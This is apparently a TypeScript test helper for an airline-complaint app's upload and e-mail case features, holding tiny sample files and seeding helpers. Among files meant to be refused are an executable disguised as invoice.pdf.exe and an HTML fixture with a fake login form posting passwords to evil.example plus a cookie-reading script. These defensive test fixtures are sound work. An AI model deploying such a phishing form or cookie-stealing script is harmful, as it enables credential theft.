// Tiny real files of each kind a traveller uploads (and a few that must be refused), and the steps the case file
// tests share: a report sent by e-mail, an upload, the company's reply as the inbound handler stores it.
import { env } from 'cloudflare:workers';
import { expect } from 'vitest';
import type { CaseAttachment, Problem } from '../contracts';
import { seedAirline, tag } from './seed';
import { call, json, type TestUser } from './support';

const b64 = (s: string) => Uint8Array.from(atob(s), (c) => c.charCodeAt(0));
const text = (s: string) => new TextEncoder().encode(s);

/** A one-page PDF with its cross-reference table. */
export const PDF = text(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\nxref\n0 4\n0000000000 65535 f \n' +
    '0000000009 00000 n \n0000000052 00000 n \n0000000101 00000 n \ntrailer<</Size 4/Root 1 0 R>>\nstartxref\n165\n%%EOF\n',
);
/** 1x1 pixel images. */
export const PNG = b64(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
);
export const JPEG = b64(
  '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////' +
    '////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
);
export const WEBP = b64('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==');
/** The start of a phone's HEIC photo: its ftyp box (major brand heic, compatible mif1 and heic) and a meta box. */
export const HEIC = new Uint8Array([
  0,
  0,
  0,
  0x18,
  ...text('ftypheic'),
  0,
  0,
  0,
  0,
  ...text('mif1heic'),
  0,
  0,
  0,
  0x0c,
  ...text('meta'),
  0,
  0,
  0,
  0,
]);
/** A Windows program (MZ header, PE signature) called invoice.pdf.exe. */
export const PE = new Uint8Array([
  ...text('MZ'),
  0x90,
  0,
  3,
  0,
  0,
  0,
  4,
  0,
  0,
  0,
  0xff,
  0xff,
  ...new Array(46).fill(0),
  0x40,
  0,
  0,
  0,
  ...text('PE\0\0'),
]);
/** An HTML page with a script and a fake login form. */
export const HTML = text(
  '<!DOCTYPE html><html><body><form action="https://evil.example/login"><input name="password"></form>' +
    '<script>alert(document.cookie)</script></body></html>',
);

export function formWith(bytes: Uint8Array, name: string, type = 'application/octet-stream') {
  const form = new FormData();
  form.append('file', new File([bytes], name, { type }));
  return form;
}

export const upload = (u: TestUser, problemId: number, bytes: Uint8Array, name: string, type?: string) =>
  call(`/api/problems/${problemId}/attachments`, { cookie: u.cookie, form: formWith(bytes, name, type) });

export async function uploaded(u: TestUser, problemId: number, bytes: Uint8Array, name: string, type?: string) {
  const res = await upload(u, problemId, bytes, name, type);
  expect(res.status, await res.clone().text()).toBe(201);
  return json<CaseAttachment>(res);
}

/** A company with a complaint address, and a report to it filed by `u` (sent by e-mail, so with a case address). */
export async function emailedReport(u: TestUser, extra: Record<string, unknown> = {}) {
  const domain = `${tag().toLowerCase()}-air.example.net`;
  const airlineId = await seedAirline({
    name: `${tag()} Case Air`,
    email: `care@${domain}`,
    website: `https://www.${domain}`,
  });
  const res = await call('/api/problems', {
    cookie: u.cookie,
    body: {
      airlineId,
      category: 'baggage',
      flightNumber: 'CA 100',
      description: 'My suitcase arrived three days late and its handle was broken.',
      contactEmail: u.email,
      ...extra,
    },
  });
  expect(res.status, await res.clone().text()).toBe(201);
  const report = await json<Problem>(res);
  return { report, company: `care@${domain}` };
}

/** The company's reply in the case, as the inbound handler stores it: the row in D1, the text in R2. */
export async function companyReply(report: Problem, from: string, subject: string, messageId: string, inReplyTo = '') {
  const bodyKey = `cases/${report.id}/messages/${crypto.randomUUID()}.txt`;
  const body = 'We are sorry about your bag. Please send us the receipts for what you bought.';
  await env.FILES.put(bodyKey, body);
  await env.DB.prepare(
    `INSERT INTO case_messages (problem_id, direction, kind, from_address, to_address, subject, message_id, in_reply_to,
     body_key, body_bytes, at) VALUES (?, 'in', 'reply', ?, ?, ?, ?, ?, ?, ?, ?)`,
  )
    .bind(
      report.id,
      from,
      report.replyAddress,
      subject,
      messageId,
      inReplyTo,
      bodyKey,
      body.length,
      new Date().toISOString(),
    )
    .run();
}

export const attachmentRows = (problemId: number) =>
  env.DB.prepare('SELECT * FROM case_attachments WHERE problem_id = ? ORDER BY id')
    .bind(problemId)
    .all<Record<string, any>>()
    .then((r) => r.results);

/** base64 of bytes, as the provider receives a document. */
export const base64Of = (bytes: Uint8Array) => btoa(String.fromCharCode(...bytes));
